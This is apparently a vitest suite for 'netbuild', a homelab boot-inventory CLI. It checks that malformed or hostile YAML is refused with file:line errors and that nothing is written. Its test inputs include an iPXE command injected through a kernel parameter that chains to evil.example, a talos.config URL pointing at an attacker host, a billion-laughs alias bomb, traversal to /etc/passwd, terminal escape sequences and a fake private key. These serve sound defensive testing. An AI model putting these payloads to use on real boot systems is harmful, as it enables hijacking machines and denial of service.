// Every kind of inventory mistake, run through the CLI as a user would hit it: exit code 2, a
// message naming file:line and the field, and nothing written — the existing output tree and
// the generated Nix are byte-for-byte what they were. Files that are not what they seem (links,
// FIFOs, devices, huge or unreadable files) are refused the same way, and no message quotes a
// file's content whole.
import { execFile, execFileSync } from "node:child_process";
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cleanupTempDirs, cli, inventory, REPO, tempDir, treeChecksum, type CliRun } from "./support/inventory.ts";
import { cannotRun, hasCommand, missing } from "./support/tools.ts";

const BASE: Record<string, string> = {
  "netbuild.yaml": "flagPrefix: homelab\n",
  "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ./demo/kernel }\ninitrd: { path: ./demo/initrd }\nkernelParams: [console=ttyS0]\n",
  "classes/demo/kernel": "not really a kernel\n",
  "classes/demo/initrd": "not really an initrd\n",
  "hosts/a.yaml": 'class: demo\nmac: "52:54:00:00:00:01"\n',
  "hosts/many.yaml": 'hosts:\n  b:\n    class: demo\n    mac: "52:54:00:00:00:02"\n  c:\n    class: demo\n    macs: ["52:54:00:00:00:03"]\n',
};

interface Case {
  name: string;
  files: Record<string, string | null>;
  /** Each expected error: `file:line` and a fragment of the rest of the line. */
  errors: [where: string, text: string | RegExp][];
  hint?: string;
  /** Text that must appear nowhere in the output, --json included (secrets, control characters). */
  absent?: string[];
}

const host = (body: string) => ({ "hosts/a.yaml": body });

// Nine times nine times … aliases: a few hundred bytes of YAML that expand to 9^8 strings.
const LAUGHS = `a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n${["b", "c", "d", "e", "f", "g", "h", "i"].map((n, i) => `${n}: &${n} [${Array(9).fill(`*${"abcdefghi"[i]}`).join(",")}]`).join("\n")}\n`;
// A (made up, truncated) private key: as YAML it reads as one long string.
const PEM_BODY = ["MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun", "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK", "LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo"];
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY.join("\n")}\n-----END RSA PRIVATE KEY-----\n`;

// Talos: a site that serves machine configs, a Talos class, and one of its hosts.
const TALOS_SITE = "flagPrefix: homelab\ntalos:\n  configBaseUrl: https://boot.example/tree\n  baseConfigs: { worker: secrets/worker.yaml }\n";
const talosClass = (talos: string) => ({ "netbuild.yaml": TALOS_SITE, "classes/t.yaml": `kind: talos\ntalos:\n  version: v1.12.2\n${talos}` });
const talosHost = (body: string, site = TALOS_SITE) => ({ "netbuild.yaml": site, "classes/t.yaml": "kind: talos\ntalos:\n  version: v1.12.2\n", "hosts/t1.yaml": `class: t\nmac: "52:54:00:00:00:11"\n${body}` });

// A NixOS class (its module file exists; nothing here evaluates it).
const NIXOS_CLASS = { "classes/n.yaml": "kind: nixos\nmodules: [./n.nix]\n", "classes/n.nix": "{ ... }: { }\n" };

const CASES: Case[] = [
  { name: "YAML syntax: bad indentation", files: host('class: demo\n mac: "52:54:00:00:00:01"\n'), errors: [["hosts/a.yaml:1:8", "YAML syntax"]] },
  { name: "YAML syntax: unclosed flow sequence", files: { "classes/demo.yaml": "kind: prebuilt\nkernelParams: [a, b\n" }, errors: [["classes/demo.yaml:", "YAML syntax"]] },
  { name: "the same host twice in one file", files: { "hosts/many.yaml": 'hosts:\n  b:\n    class: demo\n    mac: "52:54:00:00:00:02"\n  b:\n    class: demo\n    mac: "52:54:00:00:00:04"\n' }, errors: [["hosts/many.yaml:5:3", "the key \"b\" appears twice in the same mapping"]] },
  { name: "misspelt key on a host", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovison: { disks: true }\n'), errors: [["hosts/a.yaml:3:1", 'hosts.a.provison: unknown key "provison"']] },
  { name: "misspelt key in provision", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovision: { disk: true }\n'), errors: [["hosts/a.yaml:3:14", 'hosts.a.provision.disk: unknown key "disk"']] },
  { name: "unknown key on a class", files: { "classes/demo.yaml": BASE["classes/demo.yaml"] + "kernelparams: [quiet]\n" }, errors: [["classes/demo.yaml:5:1", 'classes.demo.kernelparams: unknown key']] },
  { name: "unknown key in the site file", files: { "netbuild.yaml": "flagprefix: homelab\n" }, errors: [["netbuild.yaml:1:1", 'site.flagprefix: unknown key']] },
  // Keeping one generation would delete, at the next deploy, the files machines mid-boot still fetch.
  { name: "a site keeping fewer than 2 generations", files: { "netbuild.yaml": "flagPrefix: homelab\nkeep: 1\n" }, errors: [["netbuild.yaml:2:7", "site.keep: keep at least 2"]] },
  { name: "a target keeping fewer than 2 generations", files: { "netbuild.yaml": "flagPrefix: homelab\ntargets:\n  local: { url: served, keep: 1 }\n" }, errors: [["netbuild.yaml:3:31", "site.targets.local.keep: keep at least 2"]] },
  { name: "a MAC YAML reads as a number", files: host("class: demo\nmac: 525400000001\n"), errors: [["hosts/a.yaml:2:6", "hosts.a.mac: expected string, got number 525400000001"]], hint: "put it in quotes" },
  { name: "kernelParams as a string", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: quiet\n'), errors: [["hosts/a.yaml:3:15", "hosts.a.kernelParams: expected array"]] },
  { name: "provision.disks not a boolean", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovision: { disks: "yes" }\n'), errors: [["hosts/a.yaml:3:21", "hosts.a.provision.disks: expected boolean"]] },
  { name: "a malformed MAC", files: host('class: demo\nmac: "52:54:00:00:00:0g"\n'), errors: [["hosts/a.yaml:2:6", 'hosts.a.mac: "52:54:00:00:00:0g" is not a MAC address']], hint: "six hex pairs" },
  { name: "a multicast MAC", files: host('class: demo\nmac: "01:00:5e:00:00:01"\n'), errors: [["hosts/a.yaml:2:6", "multicast"]] },
  { name: "the same MAC on two hosts, spelt differently", files: { "hosts/d.yaml": "class: demo\nmac: 5254.0000.0002\n" }, errors: [["hosts/d.yaml:2:6", "hosts.d.mac: MAC 52:54:00:00:00:02 is also used by host b (hosts/many.yaml:4)"], ["hosts/many.yaml:4:10", "hosts.b.mac: MAC 52:54:00:00:00:02 is also used by host d (hosts/d.yaml:2)"]], hint: "compared in any spelling" },
  { name: "a MAC twice in one host's list", files: host('class: demo\nmacs: ["52:54:00:00:00:09", "52-54-00-00-00-09"]\n'), errors: [["hosts/a.yaml:2:29", "hosts.a.macs[1]: 52:54:00:00:00:09 is listed twice"]] },
  { name: "a hostname defined in two files", files: { "hosts/b.yaml": 'class: demo\nmac: "52:54:00:00:00:05"\n' }, errors: [["hosts/many.yaml:3:5", "hosts.b: host b is already defined in hosts/b.yaml:1"]] },
  { name: "an unknown class (typo)", files: host('class: demoo\nmac: "52:54:00:00:00:01"\n'), errors: [["hosts/a.yaml:1:8", 'hosts.a.class: unknown class "demoo"']], hint: 'did you mean "demo"' },
  { name: "a referenced file that does not exist", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ./demo/vmlinuz }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:17", 'classes.demo.kernel.path: "./demo/vmlinuz" does not exist']] },
  { name: "a path that leaves the inventory", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { path: ../../../../etc/passwd }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:17", "points outside the inventory root"]] },
  { name: "a URL without a pinned hash", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { url: https://example.org/vmlinuz }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:16", "classes.demo.kernel.url: a URL without a pinned hash"]], hint: "hash: sha256-" },
  { name: "a malformed SRI hash", files: { "classes/demo.yaml": "kind: prebuilt\nkernel: { url: https://example.org/vmlinuz, hash: sha256-abc }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yaml:2:51", "classes.demo.kernel.hash: expected an SRI sha256 hash"]] },
  { name: "a hosts file whose name would break a script comment", files: { "hosts/rack\nchain x.yaml": 'hosts:\n  z:\n    class: demo\n    mac: "52:54:00:00:00:0a"\n' }, errors: [['"hosts/rack\\nchain x.yaml":1:1', "has characters netbuild will not write into boot scripts"]] },
  { name: "an upper-case hostname in a hosts file", files: { "hosts/many.yaml": 'hosts:\n  Bee:\n    class: demo\n    mac: "52:54:00:00:00:02"\n' }, errors: [["hosts/many.yaml:2:3", 'hosts.Bee: "Bee" has upper-case letters']] },
  { name: "a host file named with an underscore", files: { "hosts/bad_name.yaml": 'class: demo\nmac: "52:54:00:00:00:07"\n' }, errors: [["hosts/bad_name.yaml", 'the host file name: "bad_name" is not a valid hostname']] },
  { name: "a class in two files (demo.yaml and demo.yml)", files: { "classes/demo.yml": "kind: prebuilt\nkernel: { path: ./demo/kernel }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/demo.yml:1:1", "classes.demo: class demo is defined twice: in classes/demo.yaml and in classes/demo.yml"]] },
  { name: "a class file name that is not a safe path segment", files: { "classes/Demo Class.yaml": "kind: prebuilt\nkernel: { path: ./demo/kernel }\ninitrd: { path: ./demo/initrd }\n" }, errors: [["classes/Demo Class.yaml", "does not give a valid class name"]] },
  { name: "a kernel parameter with a space", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["quiet splash"]\n'), errors: [["hosts/a.yaml:3:16", 'hosts.a.kernelParams[0]: "quiet splash" contains a space']] },
  { name: "a kernel parameter injecting a new iPXE command", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["x=1\\nchain http://evil.example/x"]\n'), errors: [["hosts/a.yaml:3:16", "contains a line break"]] },
  { name: "a kernel parameter expanding an iPXE setting", files: { "classes/demo.yaml": BASE["classes/demo.yaml"]!.replace("[console=ttyS0]", '["ip=${net0/ip}"]') }, errors: [["classes/demo.yaml:4:16", "classes.demo.kernelParams[0]: \"ip=${net0/ip}\" contains '$'"]] },
  { name: "a kernel parameter with a quote", files: host("class: demo\nmac: \"52:54:00:00:00:01\"\nkernelParams: ['a=\"b\"']\n"), errors: [["hosts/a.yaml:3:16", "contains a quote"]] },
  { name: "a kernel parameter with a control character", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["a=\\u0007"]\n'), errors: [["hosts/a.yaml:3:16", "contains a control character"]] },
  { name: "a wipe flag on a class", files: { "classes/demo.yaml": BASE["classes/demo.yaml"] + "provision: { disks: true }\n" }, errors: [["classes/demo.yaml:5:1", "classes.demo.provision: provisioning flags cannot be set on a class"]], hint: "on each host" },
  { name: "a wipe flag smuggled in through a class's kernelParams", files: { "classes/demo.yaml": BASE["classes/demo.yaml"]!.replace("[console=ttyS0]", "[homelab.provision_disks=true]") }, errors: [["classes/demo.yaml:4:16", "sets a provisioning flag by hand"]], hint: "a class cannot wipe disks" },
  { name: "a wipe flag set by hand on a host", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: [homelab.provision_disks=true]\n'), errors: [["hosts/a.yaml:3:16", "sets a provisioning flag by hand"]], hint: "provision: { disks: true }" },
  { name: "hostname= given by hand", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: [hostname=other]\n'), errors: [["hosts/a.yaml:3:16", "netbuild sets hostname="]] },
  { name: "both mac and macs", files: host('class: demo\nmac: "52:54:00:00:00:01"\nmacs: ["52:54:00:00:00:08"]\n'), errors: [["hosts/a.yaml:1:1", "hosts.a: both `mac` and `macs`"]] },
  { name: "no MAC at all", files: host("class: demo\n"), errors: [["hosts/a.yaml:1:1", "hosts.a: no MAC address"]] },
  { name: "an unknown class kind", files: { "classes/demo.yaml": "kind: debian\n" }, errors: [["classes/demo.yaml:1:7", "classes.demo.kind: expected `kind: nixos`, `kind: talos` or `kind: prebuilt`"]] },
  { name: "a malformed Talos schematic ID", files: { "classes/t.yaml": "kind: talos\ntalos:\n  version: v1.12.2\n  schematicId: abc\n" }, errors: [["classes/t.yaml:4:16", "classes.t.talos.schematicId: expected the 64-hex-digit schematic ID"]] },
  { name: "a misspelt schematic field (the factory refuses unknown fields too)", files: talosClass("  schematic:\n    customizations: {}\n"), errors: [["classes/t.yaml:5:5", 'classes.t.talos.schematic.customizations: unknown key "customizations"']] },
  { name: "a schematic ID that is not the schematic's", files: talosClass("  schematicId: 9cba8e32753f91a16c1837ab8abf356af021706ef284aef07380780177d9a06c\n"), errors: [["classes/t.yaml:4:16", "classes.t.talos.schematicId: the schematic's ID is 376567988ad370138ad8b2698212367b8edcb69b5fd68c80be1f2ec7d603b4ba, not 9cba8e32"]], hint: "remove schematicId" },
  { name: "an extension name without its publisher", files: talosClass("  schematic:\n    customization:\n      systemExtensions:\n        officialExtensions: [iscsi-tools]\n"), errors: [["classes/t.yaml:7:30", "expected an official extension name like siderolabs/iscsi-tools"]] },
  { name: "a META key over 255", files: talosClass("  schematic:\n    customization:\n      meta: [{ key: 300, value: x }]\n"), errors: [["classes/t.yaml:6:21", "expected a META key from 0 to 255"]] },
  { name: "a schematic kernel argument with a space", files: talosClass("  schematic:\n    customization:\n      extraKernelArgs: [\"a b\"]\n"), errors: [["classes/t.yaml:6:25", 'classes.t.talos.schematic.customization.extraKernelArgs[0]: "a b" contains a space']] },
  { name: "a schematic kernel argument that would set every host's config URL", files: talosClass("  schematic:\n    customization:\n      extraKernelArgs: [talos.config=http://evil.example/x.yaml, -hostname]\n"), errors: [["classes/t.yaml:6:25", "classes.t.talos.schematic.customization.extraKernelArgs[0]: \"talos.config=http://evil.example/x.yaml\": netbuild sets talos.config= for each Talos host"], ["classes/t.yaml:6:66", "extraKernelArgs[1]: \"-hostname\": netbuild sets hostname="]] },
  { name: "an overlay option netbuild cannot spell as the factory does", files: talosClass("  schematic:\n    overlay:\n      image: siderolabs/sbc-raspberrypi\n      name: rpi_generic\n      options: { ratio: 1.5 }\n"), errors: [["classes/t.yaml:5:5", "netbuild cannot compute this schematic's ID exactly: overlay.options.ratio: 1.5 is not a whole number"]] },
  { name: "Talos settings on a host of a non-Talos class", files: host('class: demo\nmac: "52:54:00:00:00:01"\ntalos: { role: worker }\n'), errors: [["hosts/a.yaml:3:8", "hosts.a.talos: talos settings on a host of class demo, which is not a Talos class"]] },
  { name: "a Talos host with no role", files: talosHost(""), errors: [["hosts/t1.yaml:1:1", "hosts.t1.talos.role: host t1 of Talos class t has no role"]], hint: "talos: { role: worker }" },
  { name: "a Talos host when the site does not say where the tree is served", files: talosHost("talos: { role: worker }\n", "flagPrefix: homelab\n"), errors: [["hosts/t1.yaml:1:1", "netbuild.yaml does not say where the tree is served"]], hint: "configBaseUrl" },
  { name: "a Talos role with no base config", files: talosHost("talos: { role: controlplane }\n"), errors: [["hosts/t1.yaml:3:16", "hosts.t1.talos.role: role controlplane has no base config"]], hint: "talosctl gen config" },
  { name: "a volume whose minSize is over its maxSize", files: talosHost("talos:\n  role: worker\n  volumes: { EPHEMERAL: { minSize: 200GB, maxSize: 100GB } }\n"), errors: [["hosts/t1.yaml:5:36", "hosts.t1.talos.volumes.EPHEMERAL.minSize: minSize 200GB is larger than maxSize 100GB"]] },
  { name: "a volume size Talos cannot read", files: talosHost("talos:\n  role: worker\n  volumes: { EPHEMERAL: { maxSize: 100 gigs } }\n"), errors: [["hosts/t1.yaml:5:36", "expected a size like 100GB, 2GiB, or a percentage"]] },
  { name: "a volume VolumeConfig cannot size", files: talosHost("talos:\n  role: worker\n  volumes: { STATE: { maxSize: 1GB } }\n"), errors: [["hosts/t1.yaml:5:14", 'hosts.t1.talos.volumes.STATE: expected a system volume Talos lets VolumeConfig size: EPHEMERAL or IMAGE-CACHE']] },
  { name: "an install disk that is not a device path", files: talosHost("talos: { role: worker, installDisk: sda }\n"), errors: [["hosts/t1.yaml:3:37", "hosts.t1.talos.installDisk: expected a device path like /dev/sda"]] },
  { name: "a static address without its prefix length", files: talosHost("talos: { role: worker, network: { address: 10.0.0.5 } }\n"), errors: [["hosts/t1.yaml:3:44", "hosts.t1.talos.network.address: expected an address with its prefix length"]] },
  { name: "a static address on a NIC the host does not have", files: talosHost('talos: { role: worker, network: { address: 10.0.0.5/24, mac: "52:54:00:00:00:99" } }\n'), errors: [["hosts/t1.yaml:3:62", "hosts.t1.talos.network.mac: 52:54:00:00:00:99 is not one of this host's MACs"]] },
  { name: "a static address that is not the host's ip", files: talosHost("ip: 10.0.0.6\ntalos: { role: worker, network: { address: 10.0.0.5/24 } }\n"), errors: [["hosts/t1.yaml:4:44", "the address 10.0.0.5/24 is not the host's ip 10.0.0.6"]] },
  { name: "talos.config= set by hand", files: talosHost("talos: { role: worker }\nkernelParams: [talos.config=http://elsewhere/x.yaml]\n"), errors: [["hosts/t1.yaml:4:16", "netbuild sets talos.config= for each Talos host"]] },
  { name: "a patch file that does not exist", files: talosHost("talos: { role: worker, patches: [../patches/t1.yaml] }\n"), errors: [["hosts/t1.yaml:3:34", 'hosts.t1.talos.patches[0]: "../patches/t1.yaml" does not exist']] },
  { name: "a base config outside the inventory", files: { ...talosHost("talos: { role: worker }\n"), "netbuild.yaml": TALOS_SITE.replace("secrets/worker.yaml", "../../etc/worker.yaml") }, errors: [["netbuild.yaml:4:26", "site.talos.baseConfigs.worker: \"../../etc/worker.yaml\" points outside the inventory root"]] },
  { name: "a config base URL with a query", files: { ...talosHost("talos: { role: worker }\n"), "netbuild.yaml": TALOS_SITE.replace("https://boot.example/tree", "https://boot.example/tree?x=1") }, errors: [["netbuild.yaml:3:18", "site.talos.configBaseUrl: the URL has a query or fragment"]] },
  { name: "the same IP on two hosts", files: host('class: demo\nmac: "52:54:00:00:00:01"\nip: 10.0.0.1\n'), errors: [], },
  { name: "a malformed RAM size", files: host('class: demo\nmac: "52:54:00:00:00:01"\nram: 16 gigs\n'), errors: [["hosts/a.yaml:3:6", "hosts.a.ram: expected a size like 16GiB"]] },
  { name: "unknownMachines names a class that does not exist", files: { "netbuild.yaml": "unknownMachines: { class: rescue }\n" }, errors: [["netbuild.yaml:1:27", 'site.unknownMachines.class: unknown class "rescue"']] },
  { name: "unknownMachines naming something that cannot be a class (not silently strict)", files: { "netbuild.yaml": 'unknownMachines: { class: "../x" }\n' }, errors: [["netbuild.yaml:1:27", 'site.unknownMachines.class: "../x" is not a valid class name']] },
  { name: "a YAML alias bomb (billion laughs) in a host file", files: { "hosts/lol.yaml": LAUGHS }, errors: [["hosts/lol.yaml", "YAML aliases here expand to too much data"]] },
  { name: "a YAML alias of no anchor (a misspelt *name)", files: host('class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: *params\n'), errors: [["hosts/a.yaml:3:15", "the alias *params names no anchor"]] },
  // Composing YAML recurses per level; 20,000 levels crashed Node itself (not a catchable error).
  { name: "lists nested 20,000 deep", files: { "hosts/deep.yaml": `hosts: ${"[".repeat(20_000)}${"]".repeat(20_000)}\n` }, errors: [["hosts/deep.yaml:1:", "nest more than 100 levels deep"]] },
  { name: "a wipe without a provisioning id", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovision: { disks: true }\n'), errors: [["hosts/a.yaml:3", "hosts.a.provision: `disks: true` without an `id`: a wipe is one round of provisioning, and the host formats once per id"]], hint: "netbuild provision a" },
  { name: "a provisioning id that is not a plain token", files: host('class: demo\nmac: "52:54:00:00:00:01"\nprovision: { disks: true, id: "../r1 x" }\n'), errors: [["hosts/a.yaml:3", "hosts.a.provision.id: expected an id of letters, digits"]] },
  { name: "a private key as an authorized key", files: { ...NIXOS_CLASS, "hosts/a.yaml": `class: n\nmac: "52:54:00:00:00:01"\nssh:\n  authorizedKeys:\n    - |\n${PEM.replace(/^/gm, "      ")}` }, errors: [["hosts/a.yaml:5", "hosts.a.ssh.authorizedKeys[0]: this is a PRIVATE key (it is not repeated here)"]], hint: "ssh-keygen -y -f KEYFILE", absent: PEM_BODY },
  { name: "a public key cut short", files: { ...NIXOS_CLASS, "netbuild.yaml": "ssh:\n  authorizedKeys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA me@laptop]\n" }, errors: [["netbuild.yaml:2", "site.ssh.authorizedKeys[0]: the base64 part is not a ssh-ed25519 key (cut short, or from another key)"]] },
  { name: "a public key of a type sshd does not take", files: { ...NIXOS_CLASS, "classes/n.yaml": "kind: nixos\nmodules: [./n.nix]\nssh: { authorizedKeys: [ssh-dss AAAAB3NzaC1kc3MAAACBAP] }\n" }, errors: [["classes/n.yaml:3", 'classes.n.ssh.authorizedKeys[0]: "ssh-dss" is not a key type sshd takes']] },
  { name: "ssh keys on a host of a prebuilt class", files: host('class: demo\nmac: "52:54:00:00:00:01"\nssh: { authorizedKeys: [] }\n'), errors: [["hosts/a.yaml:3", "hosts.a.ssh: `ssh` sets who may log in to a NixOS machine, and class demo is a prebuilt class"]] },
  { name: "a private key saved in hosts/", files: { "hosts/id_rsa.yaml": PEM }, errors: [["hosts/id_rsa.yaml:1:1", /^\S+ {2}hosts: this file holds a string of [\d,]+ characters, not a mapping of host settings$/]], hint: "keep other files outside hosts/", absent: PEM_BODY },
  { name: "a private key pasted as a host's MAC", files: host(`class: demo\nmac: |\n${PEM.replace(/^/gm, "  ")}`), errors: [["hosts/a.yaml:2:6", /hosts\.a\.mac: a string of [\d,]+ characters on \d+ lines is not a MAC address$/]], absent: PEM_BODY },
  { name: "a private key as a class file", files: { "classes/key.yaml": PEM }, errors: [["classes/key.yaml:1:1", "classes.key: expected object, got a string of"]], absent: PEM_BODY },
  { name: "a long one-line value (only its start is shown)", files: host(`class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: ["${"x".repeat(40)} ${"SECRET".repeat(20)}"]\n`), errors: [["hosts/a.yaml:3:16", `hosts.a.kernelParams[0]: "${"x".repeat(40)}…" (161 characters) contains a space`]], absent: ["SECRET"] },
  { name: "control characters in a key and a value (escaped, never sent to the terminal)", files: { ...host('class: demo\nmac: "52:54:00:00:00:01\\e[2J"\n'), "hosts/k.yaml": 'class: demo\nmac: "52:54:00:00:00:0b"\n"\\e]0;pwned\\a": 1\n' }, errors: [["hosts/a.yaml:2:6", String.raw`hosts.a.mac: "52:54:00:00:00:01\u001b[2J" is not a MAC address`], ["hosts/k.yaml:3:1", String.raw`hosts.k["\u001b]0;pwned\u0007"]: unknown key "\u001b]0;pwned\u0007"`]], absent: ["\x1b", "\x07"] },
  {
    name: "several mistakes in several files, all reported at once",
    files: { "hosts/a.yaml": 'class: demoo\nmac: "52:54:00:00:00:0g"\n', "classes/demo.yaml": BASE["classes/demo.yaml"]!.replace("[console=ttyS0]", '["a b"]'), "netbuild.yaml": "links: hardlink\n" },
    errors: [
      ["classes/demo.yaml:4:16", "contains a space"],
      ["hosts/a.yaml:1:8", "unknown class"],
      ["hosts/a.yaml:2:6", "is not a MAC address"],
      ["netbuild.yaml:1:8", 'site.links: expected one of "symlink", "copy"'],
    ],
  },
];
// The duplicate-IP case needs a second host with the same address.
CASES.find((c) => c.name === "the same IP on two hosts")!.files["hosts/e.yaml"] = 'class: demo\nmac: "52:54:00:00:00:0e"\nip: 10.0.0.1\n';
CASES.find((c) => c.name === "the same IP on two hosts")!.errors.push(["hosts/a.yaml:3:5", "hosts.a.ip: IP 10.0.0.1 is also used by host e (hosts/e.yaml:3)"], ["hosts/e.yaml:3:5", "hosts.e.ip: IP 10.0.0.1 is also used by host a (hosts/a.yaml:3)"]);

const notHere = missing({ commands: ["nix-build"] });

describe.skipIf(notHere)("bad input: exit 2, file:line:field, nothing written", () => {
  /** A real tree from BASE, built once: each case gets its own copy as its out/. */
  let template: string;
  let templateSum: string;
  /** Each root's own out/ (made by rootWith): a case wrongly accepted changes its own out/ only, and fails under its own name. */
  const outs = new Map<string, string>();

  beforeAll(async () => {
    const good = inventory(BASE);
    template = path.join(good, "out");
    const r = await cli(["build"], good);
    expect(r.code, r.stderr).toBe(0);
    templateSum = treeChecksum(template);
  });
  afterAll(cleanupTempDirs);

  type Run = (args: string[], root: string) => Promise<CliRun>;

  /**
   * build, generate and plan (and plan --json) in `root`: each exits 2, names every expected
   * error, and writes nothing — neither the root's own out/ nor its .netbuild/ (the output of an
   * earlier good generate in this same root, see rootWith) changes.
   */
  async function expectRefused(name: string, root: string, c: Pick<Case, "errors" | "hint" | "absent">, opts: { run?: Run; commands?: string[][]; summary?: RegExp } = {}): Promise<void> {
    const run = opts.run ?? ((args, cwd) => cli(args, cwd));
    const out = outs.get(root)!;
    const outBefore = treeChecksum(out);
    const genBefore = treeChecksum(path.join(root, ".netbuild"));
    const commands = opts.commands ?? [["build", "--out", out], ["generate"], ["plan", "--out", out], ["plan", "--json", "--out", out]];
    for (const command of commands) {
      const r = await run(command, root);
      const what = `case "${name}": netbuild ${command.join(" ")}`;
      const outChanged = treeChecksum(out) !== outBefore;
      expect({ code: r.code, outChanged }, `${what} — exit ${r.code}, out/ ${outChanged ? "CHANGED" : "unchanged"}\n${r.stderr}`).toEqual({ code: 2, outChanged: false });
      expect(r.stderr, what).not.toMatch(/internal error|^\s+at /m);
      expect(r.stderr).toMatch(opts.summary ?? /netbuild: the inventory has \d+ errors?; nothing was written/);
      for (const [where, text] of c.errors) {
        const line = r.stderr.split("\n").find((l) => l.startsWith(where) && (typeof text === "string" ? l.includes(text) : text.test(l)));
        expect(line, `${what}: expected a line starting ${where} with ${String(text)} in:\n${r.stderr}`).toBeDefined();
      }
      if (c.hint) expect(r.stderr).toContain(c.hint);
      if (command.includes("--json")) expect(JSON.parse(r.stdout) as { ok: boolean }, what).toMatchObject({ ok: false });
      for (const text of c.absent ?? []) {
        expect(r.stderr.includes(text), `${what}: ${JSON.stringify(text)} in stderr:\n${r.stderr}`).toBe(false);
        expect(r.stdout.includes(text), `${what}: ${JSON.stringify(text)} in stdout:\n${r.stdout}`).toBe(false);
      }
      expect(treeChecksum(path.join(root, ".netbuild")), `${what}: .netbuild/ changed`).toBe(genBefore);
    }
  }

  /**
   * A root with BASE, generated (so its .netbuild/ holds the Nix and caches of a good run, which a
   * failed run must not touch), then the case's files written over it (null: that file of BASE
   * removed); and its own out/, a copy of the tree built from BASE.
   */
  async function rootWith(files: Record<string, string | null>): Promise<string> {
    const root = inventory(BASE);
    const gen = await cli(["generate"], root);
    expect(gen.code, gen.stderr).toBe(0);
    expect(existsSync(path.join(root, ".netbuild/nix/default.nix"))).toBe(true);
    for (const [k, v] of Object.entries(files)) {
      const abs = path.join(root, k);
      if (v === null) rmSync(abs, { force: true });
      else {
        mkdirSync(path.dirname(abs), { recursive: true });
        writeFileSync(abs, v);
      }
    }
    const out = path.join(tempDir(), "out");
    cpSync(template, out, { recursive: true, verbatimSymlinks: true });
    expect(treeChecksum(out), "the copy of out/ is the built tree").toBe(templateSum);
    outs.set(root, out);
    return root;
  }

  // The control for every case below: BASE alone, in a root and out/ made as theirs are, is
  // accepted, and a build into the copied out/ is netbuild's own tree rebuilt (nothing changes);
  // a valid edit does reach out/. So a refusal below is the case's doing, and an acceptance would show.
  it("accepts BASE in a root made as the cases' are, and a valid edit changes out/", async () => {
    const root = await rootWith({});
    const out = outs.get(root)!;
    const genBefore = treeChecksum(path.join(root, ".netbuild/nix"));
    for (const command of [["build", "--out", out], ["generate"], ["plan", "--out", out]]) {
      const r = await cli(command, root);
      expect(r.code, `netbuild ${command.join(" ")}\n${r.stderr}`).toBe(0);
      expect(r.stderr).not.toMatch(/error/i);
    }
    expect(treeChecksum(out), "rebuilding BASE into its own copied out/ changes nothing").toBe(templateSum);
    expect(treeChecksum(path.join(root, ".netbuild/nix"))).toBe(genBefore);
    writeFileSync(path.join(root, "hosts/a.yaml"), 'class: demo\nmac: "52:54:00:00:00:01"\nkernelParams: [quiet]\n');
    const edited = await cli(["build", "--out", out], root);
    expect(edited.code, edited.stderr).toBe(0);
    expect(treeChecksum(out)).not.toBe(templateSum);
    expect(readFileSync(path.join(out, "by-host/a/ipxe"), "utf8")).toContain("quiet");
  });

  for (const c of CASES) {
    it(`refuses ${c.name}`, async () => {
      const root = await rootWith(c.files);
      await expectRefused(c.name, root, c);
      rmSync(root, { recursive: true, force: true });
      rmSync(path.dirname(outs.get(root)!), { recursive: true, force: true });
      outs.delete(root);
    });
  }

  describe("files that are not plain files inside the root", () => {
    const elsewhere = () => {
      const dir = tempDir();
      writeFileSync(path.join(dir, "outside.yaml"), 'class: demo\nmac: "52:54:00:00:00:0f"\n');
      return path.join(dir, "outside.yaml");
    };
    const mknod = (file: string, minor: number): boolean => {
      try {
        execFileSync("mknod", [file, "c", "1", String(minor)], { stdio: "ignore" });
        return true;
      } catch {
        return false;
      }
    };

    it("refuses a host file that is a symlink to /dev/zero (it was read until memory ran out)", async () => {
      const root = await rootWith({});
      symlinkSync("/dev/zero", path.join(root, "hosts/zero.yaml"));
      await expectRefused("a symlink to /dev/zero", root, { errors: [["hosts/zero.yaml", 'hosts: "zero.yaml" resolves (through a symlink) outside the inventory root']] });
    });

    it("refuses a host file that is a FIFO, a character device, or a symlink to one, without opening it", async () => {
      const root = await rootWith({});
      execFileSync("mkfifo", [path.join(root, "hosts/fifo.yaml")]);
      symlinkSync("fifo.yaml", path.join(root, "hosts/to-fifo.yaml"));
      const errors: Case["errors"] = [
        ["hosts/fifo.yaml", 'hosts: "fifo.yaml" is a FIFO (named pipe), not a regular file'],
        ["hosts/to-fifo.yaml", 'hosts: "to-fifo.yaml" is a FIFO (named pipe), not a regular file'],
      ];
      // A copy of /dev/zero inside the root, where root may make device nodes.
      if (mknod(path.join(root, "hosts/zero.yaml"), 5)) errors.push(["hosts/zero.yaml", 'hosts: "zero.yaml" is a character device, not a regular file']);
